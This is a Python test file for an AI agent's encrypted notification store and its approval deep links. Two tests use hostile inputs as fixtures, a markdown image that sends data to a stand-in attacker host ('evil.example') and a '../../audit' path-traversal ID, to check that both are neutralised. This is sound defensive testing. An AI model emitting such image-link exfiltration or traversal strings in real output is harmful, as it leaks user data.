"""Notifications kept in the database, encrypted; approvals raise one with a deep link."""

from __future__ import annotations

import os
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from agent.gateway.approvals import ApprovalService, InMemoryApprovalStore, PendingApproval
from agent.jobs.ports import Notification
from agent.notifications import DbNotifier
from storage.crypto.field import FieldCipher
from storage.crypto.keyring import ACTIVE, DataKey, Keyring
from storage.db import Database
from storage.models.jobs import NotificationRow
from tests.agent.gateway._fixtures import Clock
from tests.agent.gateway.test_approvals import pending_send
from web.routes.jobs_view import notification_page

pytestmark = pytest.mark.anyio


def _cipher() -> FieldCipher:
    return FieldCipher(Keyring([DataKey(f"conversation.{p}.v1", os.urandom(32), ACTIVE) for p in ("enc", "idx")]))


async def test_notifications_survive_a_restart_encrypted_and_newest_first(db: Database) -> None:
    cipher = _cipher()
    first = DbNotifier(db, cipher)
    await first.notify(Notification("briefing", "Morning briefing: 3 meetings", "Dana wrote about the lease", "b-1"))
    await first.notify(Notification("approval", "Send an email to dana@example.com", "Open it", "Ab3dEf9hIj_k"))
    again = DbNotifier(db, cipher)  # a new process: same database, same keys
    listed = await again.recent()
    assert [n.kind for _, n in listed] == ["approval", "briefing"]
    assert listed[0][1] == Notification("approval", "Send an email to dana@example.com", "Open it", "Ab3dEf9hIj_k")
    assert all(at.tzinfo is not None for at, _ in listed)
    assert [n.kind for _, n in await again.recent(limit=1)] == ["approval"]
    async with db.read() as s:
        blobs = [r.content for r in (await s.scalars(select(NotificationRow))).all()]
    assert blobs and all(b"dana" not in b and b"Morning" not in b for b in blobs)  # stored encrypted
    with pytest.raises(Exception):  # noqa: B017 - another key cannot open them
        await DbNotifier(db, _cipher()).recent()


async def test_a_waiting_approval_notifies_with_its_deep_link() -> None:
    seen: list[PendingApproval] = []

    async def on_pending(p: PendingApproval) -> None:
        seen.append(p)

    _, call, decision, card = pending_send(Clock())
    service = ApprovalService(InMemoryApprovalStore(), b"k" * 32, on_pending=on_pending)
    pending = await service.request(call, decision, session_id="s1", card=card)
    assert seen == [pending]
    note = Notification("approval", card.headline, "Open it", pending.approval_id)
    page = notification_page(note, datetime(2026, 11, 23, 8, 0, tzinfo=UTC))
    assert page["link"] == f"/approvals/{pending.approval_id}" and page["kind"] == "Approval needed"
    assert page["at"] == "2026-11-23T08:00:00+00:00"
    assert notification_page(Notification("approval", "x", "y", "../../audit"))["link"] is None


async def test_a_failing_notifier_does_not_lose_the_approval() -> None:
    async def broken(_: PendingApproval) -> None:
        raise RuntimeError("disk full")

    _, call, decision, card = pending_send(Clock())
    store = InMemoryApprovalStore()
    service = ApprovalService(store, b"k" * 32, on_pending=broken, ttl=timedelta(minutes=5))
    pending = await service.request(call, decision, session_id="s1", card=card)
    assert await store.get(pending.approval_id) is not None


async def test_a_notification_never_keeps_a_remote_image(db: Database) -> None:
    notifier = DbNotifier(db, _cipher())
    await notifier.notify(Notification("briefing", "Briefing", "Spent 42 ![](https://evil.example/x.png?d=42)", "b"))
    [(_, note)] = await notifier.recent()
    assert note.body == "Spent 42 [remote image removed: evil[.]example]"
